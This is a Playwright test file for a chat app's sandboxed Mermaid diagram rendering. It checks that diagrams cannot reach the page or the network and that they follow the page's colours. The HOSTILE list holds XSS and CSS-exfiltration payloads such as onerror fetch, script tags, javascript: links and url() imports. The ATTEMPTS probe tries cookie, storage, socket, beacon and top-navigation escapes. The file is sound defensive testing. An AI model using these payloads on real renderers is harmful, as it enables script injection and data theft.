"""Diagrams on the page: drawn in the colours of the page, in a frame that reaches neither the page nor a network."""

import asyncio
from contextlib import asynccontextmanager

import pytest

pytest.importorskip("playwright.async_api", reason="playwright is not installed (make test)")

from playwright.async_api import expect

from tests.page.test_chat import send
from tests.world.model_server import Say

pytestmark = [pytest.mark.deadline(300), pytest.mark.service("chromium")]
HOSTILE = (
    'graph TD\n  A["<img src=AWAY/img onerror=fetch(`AWAY/onerror`)>"] --> B',
    'graph TD\n  A["<iframe src=AWAY/frame></iframe><meta http-equiv=refresh content=0;url=AWAY/meta>"] --> B',
    'graph TD\n  A["<link rel=preconnect href=AWAY/><style>@import url(AWAY/label.css)</style><script>fetch(`AWAY`)</script>"] --> B',
    'graph TD\n  A --> B\n  click A href "AWAY/click" _self\n  click B href "javascript:fetch(`AWAY/js`)"',
    "graph TD\n  A --> B\n  style A fill:url(AWAY/fill)\n  classDef default background-image:url(AWAY/class)",
    '%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "@import url(AWAY/theme.css); * { background: '
    'url(AWAY/theme.png) }"}}%%\ngraph TD\n  A["<img src=AWAY/loose>"] --> B',
    '%%{init: {"fontFamily": "x } @font-face { font-family: y; src: url(AWAY/font) } * { font-family: y"}}%%\ngraph TD\n  A --> B',
    "sequenceDiagram\n  A->>B: <svg onload=fetch(`v1/sessions`)>",
)
ATTEMPTS = """async (away) => {
  const refused = async (act) => Promise.resolve().then(act).then(() => "done", () => "refused");
  const loaded = (node) => new Promise((resolve, reject) => {
    Object.assign(node, { onload: resolve, onerror: reject });
    document.body.append(node);
  });
  const make = (tag, values) => Object.assign(document.createElement(tag), values);
  return {
    api: await refused(() => fetch(new URL("v1/sessions", away.page))),
    network: await refused(() => fetch(`${away.url}/fetch`, { mode: "no-cors" })),
    picture: await refused(() => loaded(make("img", { src: `${away.url}/picture` }))),
    script: await refused(() => loaded(make("script", { src: `${away.url}/script` }))),
    styles: await refused(() => loaded(make("link", { rel: "stylesheet", href: `${away.url}/styles` }))),
    socket: await refused(() => new Promise((resolve, reject) => {
      const socket = new WebSocket(away.url.replace("http", "ws"));
      Object.assign(socket, { onopen: resolve, onerror: reject });
    })),
    worker: await refused(() => new Promise((resolve, reject) => {
      const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
      Object.assign(worker, { onmessage: resolve, onerror: reject });
    })),
    text: await refused(() => eval("1")),
    cookies: await refused(() => document.cookie),
    storage: await refused(() => localStorage.length),
    page: await refused(() => parent.document.title),
    window: window.open(`${away.url}/window`) === null ? "refused" : "done",
    form: (() => { const form = make("form", { action: `${away.url}/form`, method: "post" }); document.body.append(form); form.submit(); return "refused"; })(),
    top: await refused(() => { top.location = `${away.url}/top`; }),
    beacon: (navigator.sendBeacon(`${away.url}/beacon`), "refused"),
  };
}"""
"""What a script in the frame could try, if a diagram ever got one to run: `refused`, or `done`."""
GO_AWAY = "(away) => { location.href = `${away.url}/navigation`; }"


@asynccontextmanager
async def listen():
    """Another address on this machine: its url, and the requests that it got."""
    got = []

    async def answer(reader, writer):
        got.append((await reader.readline()).decode())
        writer.close()

    async with await asyncio.start_server(answer, "127.0.0.1", 0) as server:
        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}", got


def fence(*diagrams):
    return "\n\n".join(f"```mermaid\n{each}\n```" for each in diagrams)


async def show(running, page):
    """Ask, and wait until each diagram is drawn or refused."""
    await send(page, "draw")
    await expect(page.locator(".sheets .msg.assistant")).to_have_count(1)
    blocks = page.locator(".sheets .code")
    for index in range(await blocks.count()):
        await blocks.nth(index).scroll_into_view_if_needed()
        done = blocks.nth(index).locator(".diagram-problem").or_(blocks.nth(index).get_by_role("button", name="Source"))
        await expect(done).to_be_visible(timeout=60_000)
    return [each for each in page.frames if each.url.endswith("/diagram")]


async def test_no_hostile_diagram_sends_a_request(site):
    async with (
        listen() as (url, got),
        site(lambda _body: Say(fence(*(each.replace("AWAY", url) for each in HOSTILE)))) as running,
    ):
        page = await running.log_in()
        answered = []
        page.on("response", lambda answer: answer.frame != page.main_frame and answered.append(answer.url))
        frames = await show(running, page)
        assert len(frames) >= 5, "most of them are diagrams all the same"
        for frame in frames:
            links = frame.locator("a")
            for index in range(await links.count()):
                await links.nth(index).dispatch_event("click")
        assert set(answered) == {f"{running.url}diagram"}
        assert got == []
        running.errors.clear()  # refusals of the policy


async def test_a_script_in_the_frame_of_a_diagram_reaches_neither_the_page_nor_a_network(site):
    async with listen() as (url, got), site((Say(fence("graph TD\n  A --> B")),)) as running:
        page = await running.log_in()
        (frame,) = await show(running, page)
        place = {"url": url, "page": running.url}
        found = await frame.evaluate(ATTEMPTS, place)
        assert {name for name, what in found.items() if what != "refused"} == set()
        await frame.evaluate(GO_AWAY, place)
        await expect(page.locator("textarea")).to_be_visible()
        assert await page.evaluate("fetch('diagram').then((answer) => answer.status)") == 200
        assert page.url.startswith(running.url) and len(page.context.pages) == 1
        assert got == []
        running.errors.clear()  # refusals of the policy


async def test_a_diagram_changes_its_colours_with_the_page(site):
    async with site((Say(fence("graph TD\n  A[Start] -->|yes| B[End]")),)) as running:
        page = await running.log_in(color_scheme="light")
        (frame,) = await show(running, page)
        text = frame.locator("svg .node span").first
        read = "(node) => getComputedStyle(node).color"
        assert await text.evaluate(read) == "rgb(0, 0, 0)"
        await page.emulate_media(color_scheme="dark")
        await expect(text).not_to_have_css("color", "rgb(0, 0, 0)")
        await expect(frame.locator("body > svg")).to_have_count(1)
        await expect(page.locator(".sheets .code.drawn")).to_have_count(1)
